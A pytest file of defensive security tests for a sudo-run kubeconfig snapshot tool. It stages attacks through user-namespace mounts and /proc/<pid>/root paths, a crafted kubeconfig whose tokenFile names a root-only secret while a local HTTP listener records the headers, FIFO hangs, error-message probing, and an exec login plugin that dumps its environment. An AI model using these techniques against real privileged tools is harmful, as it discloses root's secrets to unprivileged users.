"""What root reads for a user is the very file that was checked: no link of the kernel's leads it into his mounts, no special file
is opened while there is a privilege, and how it failed tells nothing of root's folders."""

import json
import os
import stat

import pytest
from sudo_world import AND_ITS_FORKS, ARPCHECK, HOME, MINE, ONLY_ARPCHECK, SudoWorld

pytestmark = pytest.mark.lab

PLACE = "/run/roots"
"""A folder of root's, that everybody may look into."""
SECRET = "only-roots-token"
EVIL = """current-context: x
contexts: [{name: x, context: {cluster: x, user: x}}]
clusters: [{name: x, cluster: {server: "http://127.0.0.1:8001"}}]
users: [{name: x, user: {tokenFile: /run/kept/secret}}]
"""
"""Over http nothing leaves the host, and what is on it hears the token."""

SERVER = f"""import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open("{MINE}/heard", "a").write(f"{{self.headers}}")
        self.send_error(500)
server = http.server.ThreadingHTTPServer(("127.0.0.1", 8001), Handler)
open("{MINE}/listening", "w").close()
server.serve_forever()
"""

ATTACK = f"""python3 {MINE}/server.py 2>/dev/null & server=$!
unshare --user --map-root-user --mount sh -c 'mount -t tmpfs tmpfs {PLACE} && cp {MINE}/evil {PLACE}/file && touch {MINE}/mounted && exec sleep 100' & his=$!
while kill -0 $server && kill -0 $his && ! [ -e {MINE}/listening -a -e {MINE}/mounted ]; do sleep 0.05; done
cd {MINE}
{{}}
kill $server $his
"""
CALL = f"sudo -n {ARPCHECK} snapshot --kubeconfig"
WAYS = [
    pytest.param(f"{CALL} /dev/fd/0 < /proc/$his/root{PLACE}/file", id="a descriptor"),
    pytest.param(f"{CALL} /dev/stdin < /proc/$his/root{PLACE}/file", id="the standard input"),
    pytest.param(f"{CALL} /proc/$his/root{PLACE}/file", id="another's root"),
    pytest.param(f"cd /proc/$his/root{PLACE} && {CALL} /proc/self/cwd/file", id="the folder"),
    pytest.param(f"cd /proc/$his/root{PLACE} && {CALL} file", id="in the folder"),
    pytest.param(f"{CALL} /proc/thread-self/fd/0 < /proc/$his/root{PLACE}/file", id="a thread's"),
    pytest.param(f"{CALL} /../proc/$his/root/../run/roots/file", id="up and down"),
]


@pytest.fixture(scope="module")
def shared():
    with SudoWorld(sudoers=f"{ONLY_ARPCHECK}{AND_ITS_FORKS}") as world:
        world.write("/run/kept/secret", SECRET, mode=0o600)
        world.path("/run/kept").chmod(0o700)
        world.write(f"{PLACE}/file", "of the host")
        world.write(f"{MINE}/server.py", SERVER, owner=True)
        world.write(f"{MINE}/evil", EVIL, owner=True)
        yield world


@pytest.mark.usefixtures("user_namespace")  # the user's own mounts are in one
@pytest.mark.parametrize("way", WAYS)
def test_a_link_of_the_kernels_into_the_users_mounts_gives_no_file_of_roots_away(shared, way):
    for name in ("heard", "listening", "mounted"):
        shared.path(f"{MINE}/{name}").unlink(missing_ok=True)
    done = shared.run("sh", "-c", ATTACK.format(way), cwd=MINE)
    assert shared.path(f"{MINE}/listening").exists(), done.stderr
    assert shared.path(f"{MINE}/mounted").exists(), done.stderr
    heard = shared.path(f"{MINE}/heard")
    assert not heard.exists() or SECRET not in heard.read_text()
    assert "arpcheck: " in done.stderr
    assert SECRET not in done.stdout + done.stderr


def test_the_server_of_the_attack_does_hear_a_token(shared):
    """Else none of the above says anything: here the user sends one of his own."""
    for name in ("heard", "listening", "mounted"):
        shared.path(f"{MINE}/{name}").unlink(missing_ok=True)
    shared.write(f"{MINE}/own", EVIL.replace("tokenFile: /run/kept/secret", "token: his-own"), owner=True)
    shared.run("sh", "-c", ATTACK.format(f"{CALL} {MINE}/own"), cwd=MINE)
    assert "his-own" in shared.path(f"{MINE}/heard").read_text()


SPECIAL = [
    pytest.param(stat.S_IFIFO, 0, id="fifo"),
    pytest.param(stat.S_IFCHR, os.makedev(1, 3), id="device"),
    pytest.param(stat.S_IFSOCK, 0, id="socket"),
]


@pytest.mark.parametrize(("kind", "device"), SPECIAL)
def test_what_is_not_a_regular_file_is_not_opened_by_root(shared, kind, device):
    """A FIFO of root's that nobody writes to would hold it up, and root at that: it ends by itself."""
    path = shared.path(f"{PLACE}/special")
    path.unlink(missing_ok=True)
    os.mknod(path, 0o600 | kind, device)
    done = shared.forked_sudo("snapshot", "--kubeconfig", f"{PLACE}/special")
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert done.stderr.startswith(f"arpcheck: {PLACE}/special: Permission denied. "), done.stderr


@pytest.mark.parametrize("key", ["tokenFile", "client-key"])
def test_nor_where_a_kubeconfig_of_roots_names_one(shared, key):
    path = shared.path(f"{PLACE}/special")
    path.unlink(missing_ok=True)
    os.mkfifo(path, 0o600)
    config = EVIL.replace("tokenFile: /run/kept/secret", f"{key}: {PLACE}/special, client-certificate-data: eA==").replace(
        "http:", "https:"
    )
    shared.write(f"{PLACE}/config", config, mode=0o600)
    done = shared.forked_sudo("snapshot", "--kubeconfig", f"{PLACE}/config")
    assert (done.returncode, done.stderr) == (2, f"arpcheck: {PLACE}/special: Permission denied\n")


FEW = ("gone", "yaml", "broken", "folder", "theirs", "link")


@pytest.mark.parametrize("more", [(), ("-v", "--context", "y")], ids=["plain", "with all there is"])
def test_what_only_root_can_see_is_not_told_by_how_it_failed(shared, more):
    """Whether it is there, and what it is."""
    kept = shared.path("/run/kept")
    for name, text in {
        "token": "abc",
        "yaml": "a: [1]\n",
        "broken": "a: [\n",
        "empty": "",
        "contexts": "contexts: []\n",
    }.items():
        (kept / name).write_text(text)
    (kept / "folder").mkdir(exist_ok=True)
    (kept / "theirs").write_text("x")
    os.chown(kept / "theirs", 4242, 4243)
    for name, to in {"link": "gone", "round": "round"}.items():
        if not (kept / name).is_symlink():
            (kept / name).symlink_to(to)
    told = {}
    names = ("gone", "gone/x", "yaml/x", *sorted(path.name for path in kept.iterdir()))
    for name in names if more else FEW:
        done = shared.forked_sudo("snapshot", "--kubeconfig", f"/run/kept/{name}", *more)
        assert done.returncode == 2
        lines = [line for line in done.stderr.splitlines() if "config" in line and "privileges given up" not in line]
        told.setdefault("\n".join(lines).replace(f"/run/kept/{name}", "NAME"), []).append(name)
    assert len(told) == 1, told
    assert json.dumps(list(told)).count("Permission denied") == 1


def test_a_kubeconfig_with_a_login_plugin_is_not_held_for_another(shared):
    """The plug-in would run as the user, and its environment, secrets of root's file included, be his to read."""
    plugin = f"#!/bin/sh\ncat /proc/$$/environ > {MINE}/environ\nexit 1\n"
    shared.write(f"{MINE}/plugin", plugin, owner=True, mode=0o755)
    entry = f'exec: {{apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: {MINE}/plugin, env: [{{name: KEY, value: "{SECRET}"}}]}}'
    config = EVIL.replace("tokenFile: /run/kept/secret", entry)
    shared.write("/run/kept/exec", config, mode=0o600)
    done = shared.forked_sudo("snapshot", "--kubeconfig", "/run/kept/exec")
    shared.path("/run/kept/exec").unlink()
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert "login plug-in (exec)" in done.stderr
    assert "snapshot" in done.stderr, "the way without it"
    assert not shared.path(f"{MINE}/environ").exists()


def test_one_with_a_login_plugin_that_the_user_may_read_himself_is_his(shared):
    shared.path(f"{MINE}/environ").unlink(missing_ok=True)
    shared.write(f"{MINE}/plugin", f"#!/bin/sh\nid -u > {MINE}/environ\nexit 1\n", owner=True, mode=0o755)
    entry = f"exec: {{apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: {MINE}/plugin}}"
    shared.write(f"{PLACE}/exec", EVIL.replace("tokenFile: /run/kept/secret", entry))
    done = shared.forked_sudo("snapshot", "--kubeconfig", f"{PLACE}/exec", cwd=HOME)
    assert "login plug-in 'plugin' failed with exit code 1" in done.stderr
    assert shared.path(f"{MINE}/environ").read_text() == "4242\n"
